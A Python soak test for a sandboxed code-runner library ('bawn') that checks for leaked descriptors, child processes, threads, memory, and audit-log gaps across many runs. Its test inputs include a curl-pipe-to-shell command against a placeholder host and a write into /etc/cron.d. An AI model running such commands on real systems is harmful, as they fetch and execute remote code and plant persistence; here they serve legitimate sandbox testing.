"""One process, many runs, one after another and then many at once, twice; afterwards nothing has grown and the log
has each of them.

The allocator has one arena here: with one for every few threads, as usual, each keeps pieces of its own, and which
thread gets which is chance; 24 at once grew by 1.5 MB, 0.7, 0.3, 0.5, 0.1 ... from round to round, and by 0.03 and
less with one arena.  The second of two equal rounds is judged by the first.

    leak.py [SEQUENTIAL [CONCURRENT]]    1000 and 64 by tools/soak; test_host.py has a short one

Prints one line for each thing it looked at and exits with 1 if one is wrong.  Run it in a process of its own."""
import collections
import contextlib
import ctypes
import gc
import glob
import json
import os
import sys
import tempfile
import threading

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))

KINDS = [("print({})", {}), ("raise SystemExit(3)", {}), ("open('f', 'w').write('{}')", {"collect": True}),
         ("print('{}' * 1000)", {"on_stdout": lambda t: None, "on_event": lambda e: None}),
         ("import os; os.system('curl http://x.invalid/{} | sh')", {}),
         ("open('/etc/cron.d/{}', 'w')", {"confirm": lambda q: False})]
failed = False


def check(good, text):
    global failed
    failed = failed or not good
    print(("good: " if good else "WRONG: ") + text, flush=True)


def descriptors():
    return len(os.listdir("/proc/self/fd"))


def children():
    n = 0
    for path in glob.glob("/proc/self/task/*/children"):
        with contextlib.suppress(OSError):  # a thread that was joined goes a little later
            with open(path) as f:
                n += len(f.read().split())
    return n


def resident():
    gc.collect()
    ctypes.CDLL(None).malloc_trim(0)
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGESIZE") // 1024


def main(sequential, concurrent):
    import bawn
    ids, lock = collections.Counter(), threading.Lock()

    def once(i):
        code, options = KINDS[i % len(KINDS)]
        r = bawn.run(code.format(i), check=False, labels={"i": str(i)}, **options)
        with lock:
            ids[r.id] += 1
            if r.error is not None:
                check(False, f"run {i}: {r.error}")

    def at_once(n, first):
        threads = [threading.Thread(target=once, args=(first + i,)) for i in range(n)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()

    with tempfile.TemporaryDirectory(prefix="bawn-leak-") as top:
        os.environ["BAWN_STATE"] = top + "/state"
        tempfile.tempdir = top
        at_once(concurrent, 0)  # whatever is made once is made now
        for i in range(len(KINDS) * 2):
            once(i)
        before, memory, threads = (descriptors(), children()), resident(), threading.active_count()
        for i in range(sequential):
            once(i)
        middle = resident()
        at_once(concurrent, sequential)
        once_paid = resident()
        at_once(concurrent, sequential + concurrent)
        after, grown = (descriptors(), children()), resident() - once_paid
        n = sequential + 3 * concurrent + len(KINDS) * 2
        check(len(ids) == n and set(ids.values()) == {1}, f"{n} runs, each with an id of its own")
        check(before == after, f"descriptors and children: {before} before, {after} after")
        check(threading.active_count() == threads, f"threads: {threads}")
        # The allocator keeps some, but not half a kilobyte for each run, nor, of many at once, four for each.
        check(middle - memory < 200 + sequential // 2, f"resident memory grew by {middle - memory} kB one after another")
        check(grown < 128 + 4 * concurrent, f"by {once_paid - middle} kB in the first round at once, by {grown} kB in the second")
        records = [json.loads(line) for path in glob.glob(top + "/state/audit/seg/*.jsonl") for line in open(path)]
        ends = collections.Counter(r["exec"] for r in records if r["type"] in ("exec.outcome", "exec.refused", "approval.requested"))
        check(set(ends) == set(ids) and set(ends.values()) == {1}, "each of them is in the log, once")
        intents = {r["exec"] for r in records if r["type"] == "exec.intent"}
        outcomes = {r["exec"] for r in records if r["type"] == "exec.outcome"}
        check(intents == outcomes and not [r for r in records if r["type"] == "exec.lost"], "no intent is without an outcome")
        check(bawn.status()["audit"]["ok"] and bawn.status()["audit"]["entries"] == len(records), "the log verifies")
        check([n for n in os.listdir(top + "/state/running") if n != "boot"] == [], "no mark of a running one is left")
        check(not glob.glob(top + "/bawn-out-*"), "no directory for outputs is left")
    return 1 if failed else 0


if __name__ == "__main__":
    if os.environ.get("MALLOC_ARENA_MAX") != "1":  # read by the allocator when it begins
        os.execve(sys.executable, [sys.executable, "-B", *sys.argv], {**os.environ, "MALLOC_ARENA_MAX": "1"})
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 1000, int(sys.argv[2]) if len(sys.argv) > 2 else 64))
